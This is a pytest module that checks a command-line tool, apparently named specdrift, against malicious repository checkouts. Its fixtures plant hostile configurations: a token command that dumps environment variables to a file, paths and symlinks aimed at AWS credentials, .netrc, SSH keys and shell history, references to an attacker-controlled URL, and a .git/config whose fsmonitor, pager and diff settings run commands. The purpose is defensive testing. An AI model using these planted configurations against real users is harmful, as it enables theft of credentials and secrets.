"""A hostile checkout gets nothing of the owner, by any command."""

from __future__ import annotations

import subprocess
from typing import TYPE_CHECKING

import pytest

from specdrift.ci.hook import main as hook
from specdrift.ci.job import Job, Mode
from specdrift.ci.job import run as run_job
from specdrift.errors import SpecdriftError

if TYPE_CHECKING:
    from tests.hostile.conftest import Command
    from tests.hostile.owner import Owner
    from tests.hostile.recorder import Recorder

pytestmark = pytest.mark.slow

DOCUMENT = """\
openapi: 3.1.0
info: {title: T, version: "1"}
servers: [{url: "URL"}]
components:
  securitySchemes:
    mtls: {type: mutualTLS}
    key: {type: apiKey, in: header, name: X-Key}
    oauth: {type: http, scheme: bearer}
paths:
  /a: {get: {security: [{mtls: [], key: [], oauth: []}], responses: {"200": {description: ok}}}}
  /b: {get: {security: [{key: []}], responses: {"200": {description: ok}}}}
  /c: {get: {security: [{oauth: []}], responses: {"200": {description: ok}}}}
"""
TARGET = 'spec = "openapi.yaml"\nbase-url = "URL"\n[server]\nca-file = "ca.pem"\n'
CONFIGURATIONS = {
    "its own target": TARGET,
    "variables": TARGET + '[schemes.key]\nvalue = "${API_KEY}"\n[schemes.oauth]\ntoken = "${ACCESS_TOKEN}"\n',
    "a passphrase": TARGET + '[[identities]]\nname = "a"\ncert-file = "HOME/certificates/alice.pem"\n'
    'key-file = "HOME/certificates/alice.key"\nkey-pass = "${DB_PASSWORD}"\n',
    "a command": TARGET
    + '[schemes.oauth]\ntoken-command = ["sh", "-c", "env > stolen; touch MARK; env | head -1"]\n',
    "keys of the owner": TARGET + '[[identities]]\nname = "a"\ncert-file = "~/certificates/alice.pem"\n'
    'key-file = "~/certificates/alice.key"\n',
    "a link to a key": TARGET + '[[identities]]\nname = "a"\ncert-file = "link/certificates/alice.pem"\n'
    'key-file = "link/certificates/alice.key"\n',
    "reports": TARGET + '[reports]\ntext = "HOME/.bashrc"\nhtml = "~/.profile"\njson = "link/.netrc"\n',
    "a record": f'record = "HOME/.bashrc"\nresume = "link/.profile"\n{TARGET}',
    "a baseline": f'update-baseline = true\nbaseline = "HOME/.bashrc"\n{TARGET}',
    "a document behind a URL": 'spec = "URL/openapi.yaml"\n',
    "files of the owner as documents": 'spec = "HOME/.aws/credentials"\n',
    "a link as document": 'spec = "link/.aws/credentials"\nprevious = "link/.netrc"\nbaseline = "link/.netrc"\n',
    "references": 'spec = "references.yaml"\n[loader]\nref-root = "/"\nallow-remote-refs = ["localhost"]\n'
    'overlays = ["URL/overlay.yaml"]\n',
    "traffic": TARGET + '[undocumented]\nfeeds = ["~/.bash_history", "link/.bash_history"]\n',
    "the address of the owner's host": 'spec = "openapi.yaml"\n[server]\ninsecure = true\nca-file = "ca.pem"\n'
    'server-name = "localhost"\n[network]\nresolve = ["api.owner.test:PORT:127.0.0.1"]\n',
    "listeners": 'spec = "openapi.yaml"\n[server]\nlisteners = ["URL"]\n[network]\nallow-hosts = ["localhost"]\n',
}
REFERENCES = """\
openapi: 3.1.0
info: {title: T, version: "1"}
paths:
  /a:
    get:
      parameters:
        - {name: q, in: query, required: true, example: {$ref: "HOME/.aws/credentials"}}
        - $ref: "URL/parameter.yaml"
        - $ref: "link/.netrc"
        - $ref: "../home/.ssh/id_ed25519"
      responses: {"200": {description: ok}}
"""
COMMANDS = {
    "check": ("check",),
    "check of a document": ("check", "openapi.yaml"),
    "check of a server": ("check", "openapi.yaml", "https://api.owner.test:PORT"),
    "check with a report": ("check", "--report", "html=out.html", "--report", "json=out.json"),
    "plan": ("plan",),
    "lint": ("lint",),
    "lint with a report": ("lint", "--format", "html", "-o", "lint.html"),
    "routes": ("routes", ".", "--format", "json", "-o", "routes.json"),
    "identities": ("identities",),
    "config show": ("config", "show"),
    "config check": ("config", "check"),
    "init": ("init", "--yes", "--force"),
    "fleet": ("fleet", "../inventory.toml", "-o", "fleet", "--no-history", "--workers", "1"),
    "explain": ("explain", "mtls-not-enforced"),
}
INVENTORY = """\
[[defaults.identities]]
name = "alice"
cert-file = "home/certificates/alice.pem"
key-file = "home/certificates/alice.key"
[[services]]
name = "service"
config = "*/specdrift.toml"
"""


def plant(owner: Owner, attacker: Recorder, configuration: str) -> None:
    """Write the checkout of the attacker."""
    checkout = owner.checkout
    (checkout / "link").symlink_to(owner.home)
    files = {
        "specdrift.toml": CONFIGURATIONS[configuration],
        "openapi.yaml": DOCUMENT,
        "references.yaml": REFERENCES,
        "../inventory.toml": INVENTORY,
    }
    for name, text in files.items():
        (checkout / name).write_text(filled(text, owner, attacker))


def filled(text: str, owner: Owner, attacker: Recorder) -> str:
    """Put the places of this run into a text."""
    places = {
        "URL": attacker.url,
        "PORT": str(attacker.port),
        "HOME": str(owner.home),
        "MARK": str(owner.mark),
    }
    for word, value in places.items():
        text = text.replace(word, value)
    return text


@pytest.mark.parametrize("line", COMMANDS)
@pytest.mark.parametrize("configuration", CONFIGURATIONS)
def test_no_command_gives_it_anything(
    line: str, configuration: str, owner: Owner, attacker: Recorder, command: Command
) -> None:
    """Neither with an identity in the variables nor without."""
    plant(owner, attacker, configuration)
    arguments = [filled(each, owner, attacker) for each in COMMANDS[line]]
    printed = command(*arguments, identity=True) + command(*arguments, identity=False)
    assert sorted(owner.losses(attacker, printed)) == []


@pytest.mark.parametrize("mode", Mode)
@pytest.mark.parametrize("configuration", CONFIGURATIONS)
def test_no_job_gives_it_anything(
    configuration: str,
    mode: Mode,
    owner: Owner,
    attacker: Recorder,
    command: Command,
    capfd: pytest.CaptureFixture[str],
) -> None:
    """In mode lint it does not contact the attacker, even if the workflow names the configuration."""
    plant(owner, attacker, configuration)
    command("rules")  # sets the variables and the working folder
    before = attacker.connections
    named = {"SPECDRIFT_CONFIG": "specdrift.toml"} if mode is Mode.LINT else {}
    environ = owner.environ(identity=True) | named
    message = ""
    with pytest.MonkeyPatch.context() as variables:
        for name, value in named.items():
            variables.setenv(name, value)
        try:
            run_job(Job(against="", mode=mode, output=owner.checkout / "specdrift-report", environ=environ))
        except SpecdriftError as error:
            message = str(error)
        with pytest.raises(SystemExit):
            hook.main(["openapi.yaml", "references.yaml"], prog_name="hook")
    assert sorted(owner.losses(attacker, "".join((message, *capfd.readouterr())))) == []
    if mode is Mode.LINT:
        assert attacker.connections == before


@pytest.mark.parametrize("planted", ["folder", "file", "summary", "document", "configuration"])
def test_a_job_follows_no_link(planted: str, owner: Owner, attacker: Recorder, command: Command) -> None:
    """Of its output folder, its files, the document and the configuration."""
    plant(owner, attacker, "its own target")
    report, link = owner.checkout / "specdrift-report", {}
    if planted == "folder":
        report.symlink_to(owner.home)
    else:
        report.mkdir()
        link = {
            "file": (report / "lint.html", owner.home / ".bashrc"),
            "summary": (report / "summary.md", owner.home / ".profile"),
            "document": (owner.checkout / "openapi.yaml", owner.home / ".aws/credentials"),
            "configuration": (owner.checkout / "specdrift.toml", owner.home / ".aws/credentials"),
        }
        written, target = link[planted]
        written.unlink(missing_ok=True)
        written.symlink_to(target)
    printed = command("rules")
    try:
        run_job(Job(against="", mode=Mode.LINT, output=report, environ={"SPECDRIFT_SPEC": "openapi.yaml"}))
    except SpecdriftError as error:
        printed += str(error)
    assert sorted(owner.losses(attacker, printed)) == []


def test_the_attacks_work_on_a_trusted_configuration(
    owner: Owner, attacker: Recorder, command: Command
) -> None:
    """The control: with the owner's trust, the same files get what they ask for."""
    for configuration, loss in (("variables", "server: API_KEY"), ("a command", "a command was run")):
        (owner.checkout / "link").unlink(missing_ok=True)
        plant(owner, attacker, configuration)
        printed = command("check", "--config", "specdrift.toml", identity=False)
        assert loss in set(owner.losses(attacker, printed))
    command("trust")
    before = attacker.connections
    command("check")
    assert attacker.connections > before


def test_a_planted_git_configuration_runs_nothing(owner: Owner, attacker: Recorder, command: Command) -> None:
    """A checkout of an archive can bring its `.git`; REV:PATH reads objects only."""
    plant(owner, attacker, "its own target")
    git = owner.checkout / ".git"
    git.rmdir()
    author = ("-c", "user.name=E", "-c", "user.email=e@example.test", "-c", "commit.gpgsign=false")
    for arguments in (("init", "--quiet"), ("add", "openapi.yaml"), ("commit", "--quiet", "-m", "x")):
        subprocess.run(["git", *author, *arguments], cwd=owner.checkout, check=True, capture_output=True)
    run = f'"touch {owner.mark}"'
    with (git / "config").open("a") as file:
        file.write(
            f"[core]\n\tfsmonitor = {run}\n\tsshCommand = {run}\n\tpager = {run}\n[diff]\n\texternal = {run}\n"
        )
    printed = command("lint", "HEAD:openapi.yaml", "--against", "HEAD:openapi.yaml")
    assert "PASSED" in printed
    assert sorted(owner.losses(attacker, printed)) == []


def test_the_configuration_of_the_table_is_found(owner: Owner, attacker: Recorder, command: Command) -> None:
    """The control: the error names which key needs trust, and with which command he gives it."""
    plant(owner, attacker, "variables")
    printed = command("check", identity=False)
    assert "specdrift.toml:6: schemes.key.value: expands an environment variable (API_KEY)" in printed
    assert "specdrift trust specdrift.toml" in printed
